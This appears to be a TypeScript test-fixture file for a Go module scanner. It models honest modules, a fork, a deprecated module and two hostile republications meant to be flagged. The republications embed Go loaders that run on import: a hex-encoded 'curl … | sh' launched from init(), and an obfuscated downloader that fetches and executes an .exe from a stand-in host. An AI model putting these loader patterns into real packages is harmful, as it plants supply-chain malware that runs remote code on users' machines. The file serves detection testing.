/**
 * A module, an honest fork of it, and republications with a loader that runs on
 * import. No tag is moved here: mirror and upstream agree in all of them, and
 * no name resembles a known one.
 *
 * INERT. The Go text of the loaders is never compiled and never run, here or by
 * Modproof. The hosts in it are below example.invalid, which never resolves
 * (RFC 2606).
 */
import { Buffer } from 'node:buffer';
import type { ModuleDescription, Tree } from './description.ts';
import { pick, SAME } from './files.ts';
import { honest, released, textOf } from './shapes.ts';
import { TIDEBOOK, TIDEBOOK_FILES, TIDEBOOK_PATH, tidebookAs } from './tidebook.ts';

const ORIGINAL = honest({
  name: 'copied-original',
  story: 'An honest module that few know, and that others copy.',
  path: TIDEBOOK_PATH,
  version: 'v1.2.0',
  repository: released({
    url: `https://${TIDEBOOK_PATH}`,
    tags: ['v1.2.0'],
    date: '2022-06-10T08:00:00Z',
    tree: TIDEBOOK,
  }),
  tree: TIDEBOOK,
  files: TIDEBOOK_FILES,
});

const FORK_PATH = 'github.com/quietcove/tidebook';

const FORK: Tree = {
  ...tidebookAs(FORK_PATH),
  'README.md': `# tidebook

This is a fork of [tidebook](https://${TIDEBOOK_PATH}) that also tells the next high water.

    go get ${FORK_PATH}
`,
  'high.go': `package tidebook

import "time"

// NextHigh gives the next high water behind a moment.
func (b *Book) NextHigh(from time.Time) (Entry, error) {
	return b.Next(High, from)
}
`,
};

const HONEST_FORK: ModuleDescription = {
  ...honest({
    name: 'honest-fork',
    story: 'A fork that says so and gained nothing that reaches out.',
    path: FORK_PATH,
    version: 'v1.3.0',
    repository: released({
      url: `https://${FORK_PATH}`,
      tags: ['v1.3.0'],
      date: '2023-04-01T10:00:00Z',
      tree: FORK,
    }),
    tree: FORK,
    files: [...TIDEBOOK_FILES, 'high.go'],
    expected: { ...SAME, findings: [{ code: 'squat/near-copy', severity: 'information' }] },
  }),
  kind: 'fork',
};

const HANDED_OVER_PATH = 'github.com/pellucid-press/tideledger';
const SUCCESSOR_PATH = 'github.com/coastal-commons/tideledger';

const HANDED_OVER: Tree = {
  ...tidebookAs(HANDED_OVER_PATH),
  'go.mod': `// Deprecated: use ${SUCCESSOR_PATH} instead.\nmodule ${HANDED_OVER_PATH}\n\ngo 1.21\n`,
};

const DEPRECATED: ModuleDescription = {
  ...honest({
    name: 'handed-over',
    story: 'A module whose newest go.mod names its successor.',
    path: HANDED_OVER_PATH,
    version: 'v1.9.0',
    repository: released({
      url: `https://${HANDED_OVER_PATH}`,
      tags: ['v1.9.0'],
      date: '2022-02-02T02:00:00Z',
      tree: HANDED_OVER,
    }),
    tree: HANDED_OVER,
    files: TIDEBOOK_FILES,
    expected: { ...SAME, findings: [{ code: 'version/deprecated', severity: 'information' }] },
  }),
  kind: 'moved',
};

const SUCCESSOR_TREE: Tree = { ...tidebookAs(SUCCESSOR_PATH), 'README.md': HANDED_OVER['README.md'] ?? '' };

const SUCCESSOR = honest({
  name: 'successor',
  story: 'Its README still names the module that it succeeds, and that one says so itself.',
  path: SUCCESSOR_PATH,
  version: 'v1.10.0',
  repository: released({
    url: `https://${SUCCESSOR_PATH}`,
    tags: ['v1.10.0'],
    date: '2022-03-03T03:00:00Z',
    tree: SUCCESSOR_TREE,
  }),
  tree: SUCCESSOR_TREE,
  files: TIDEBOOK_FILES,
});

interface Republication {
  readonly name: string;
  readonly story: string;
  readonly path: string;
  readonly version: string;
  /** Files that still name the original. */
  readonly kept: readonly string[];
  /** Files that are left out of the copy. */
  readonly dropped: readonly string[];
  readonly loaderFile: string;
  readonly loader: string;
  readonly expected: ModuleDescription['expected'];
}

function republished(copy: Republication): ModuleDescription {
  const { name, story, path, version, kept, dropped, loaderFile, loader, expected } = copy;
  const all: Tree = { ...tidebookAs(path, kept), [loaderFile]: loader };
  const files = Object.keys(all).filter((file) => !dropped.includes(file));
  const tree = Object.fromEntries(files.map((file) => [file, all[file] ?? '']));
  const repository = released({
    url: `https://${path}`,
    tags: [version],
    date: '2025-03-03T03:00:00Z',
    tree,
  });
  return {
    name,
    kind: 'attack',
    story,
    path,
    version,
    repository,
    cached: {
      commit: 'release',
      origin: { ref: `refs/tags/${version}` },
      mod: textOf(tree, 'go.mod'),
      zip: pick(tree, files),
    },
    expected,
  };
}

const hex = (text: string): string => Buffer.from(text).toString('hex');

const REPUBLISHED = republished({
  name: 'republished',
  story: 'The module under another owner, README and test untouched, with a loader that an init starts.',
  path: 'github.com/wearytangent/tidebook',
  version: 'v1.2.1',
  kept: ['README.md', 'book_test.go'],
  dropped: [],
  loaderFile: 'calendar.go',
  loader: `package tidebook

import (
	"encoding/hex"
	"os/exec"
)

func init() {
	refresh()
}

func refresh() {
	season, err := hex.DecodeString("${hex('curl -s http://tables.example.invalid/u | sh')}")
	if err != nil {
		return
	}
	_ = exec.Command("/bin/sh", "-c", string(season)).Start()
}
`,
  expected: {
    ...SAME,
    findings: [
      { code: 'behaviour/runs-on-import', severity: 'error' },
      { code: 'squat/near-copy', severity: 'error' },
    ],
    mayAlso: ['squat/other-identity'],
  },
});

const LETTERS = '/lcinobeshtadv.:pwxmri';
const spell = (text: string): string =>
  [...text].map((letter) => `tides[${LETTERS.indexOf(letter)}]`).join(' + ');

const WITHOUT_TRACE = republished({
  name: 'republished-without-trace',
  story: 'Every word of the original is replaced, and the loader is built on one system alone.',
  path: 'github.com/graniteplover/almanack',
  version: 'v0.1.0',
  kept: [],
  dropped: ['book_test.go', 'LICENSE'],
  loaderFile: 'zone_windows.go',
  loader: `package tidebook

import (
	"net/http"
	"os"
	"os/exec"
	"io"
)

var tides = []string{${[...LETTERS].map((letter) => `"${letter}"`).join(', ')}}

var zone = loadZone()

func loadZone() string {
	source := ${spell('http://tides.example.invalid/x')}
	answer, err := http.Get(source)
	if err != nil {
		return ""
	}
	defer answer.Body.Close()
	file, err := os.CreateTemp("", "zone*.exe")
	if err != nil {
		return ""
	}
	_, _ = io.Copy(file, answer.Body)
	_ = file.Close()
	_ = exec.Command(file.Name()).Start()
	return file.Name()
}
`,
  expected: { ...SAME, findings: [{ code: 'behaviour/runs-on-import', severity: 'error' }] },
});

export const COPY_MODULES: readonly ModuleDescription[] = [
  ORIGINAL,
  HONEST_FORK,
  DEPRECATED,
  SUCCESSOR,
  REPUBLISHED,
  WITHOUT_TRACE,
];
